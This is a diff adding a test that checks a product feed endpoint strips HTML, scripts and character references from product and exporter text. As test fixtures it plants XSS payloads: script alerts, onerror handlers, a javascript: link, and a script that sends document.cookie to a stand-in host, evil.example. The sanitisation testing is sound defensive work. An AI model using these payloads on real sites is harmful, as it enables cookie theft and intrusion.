@@ -405,6 +405,49 @@ describe('/feeds/products.json', () => {
     expect(body).toEqual({ error: { code, message: expect.any(String) } })
   })
 
+  test('exporter text is plain text: tags, scripts and character references never reach a feed reader as HTML', async () => {
+    const db = getDb()
+    const product = await db.product.findFirstOrThrow({
+      where: visibleProduct,
+      orderBy: { id: 'asc' },
+      include: { exporter: true },
+    })
+    await db.productTranslation.update({
+      where: { productId_locale: { productId: product.id, locale: 'en' } },
+      data: {
+        name: '<b>Altai</b> honey &amp; comb <script>alert(1)</script>',
+        description: [
+          '<p>Raw <i>mountain</i> honey.<br>Harvested in July &ndash; 1,200 m.</p>',
+          '<script>document.location="https://evil.example/?"+document.cookie</script>',
+          '<img src=x onerror=alert(2)>&lt;svg onload=alert(3)&gt;<!-- hidden -->',
+          'Pb < 0.001 %, moisture <18 %, HMF > 0',
+          '<a href="javascript:alert(4)">more</a> <img src=x onerror=alert(5)',
+        ].join('\n'),
+      },
+    })
+    await db.exporterTranslation.updateMany({
+      where: { exporterId: product.exporterId, locale: 'en' },
+      data: { legalName: '<b>Naryn</b> &quot;Honey&quot; LLP' },
+    })
+    const response = await productFeedLoader(args('/feeds/products.json?locale=en&pageSize=1000'))
+    const raw = await response.text()
+    // no markup anywhere in the bytes: "<", ">" and "&" are JSON escapes, the values unchanged
+    expect(raw).not.toMatch(/[<>&]/)
+    const item = (JSON.parse(raw) as Feed).items.find((candidate) => candidate.id === product.slug)!
+    expect(item.title).toBe('Altai honey & comb')
+    expect(item.description).toBe(
+      [
+        'Raw mountain honey.',
+        'Harvested in July – 1,200 m.',
+        '',
+        'Pb < 0.001 %, moisture <18 %, HMF > 0',
+        'more img src=x onerror=alert(5)',
+      ].join('\n'),
+    )
+    expect(item.exporter.name).toBe('Naryn "Honey" LLP')
+    for (const text of [item.title, item.description, item.exporter.name]) expect(text).not.toMatch(/<[a-z/!?]/i)
+  })
+
   test('a page past the last is a 404', async () => {
     const { response, body } = await feed('?page=9999')
     expect(response.status).toBe(404)
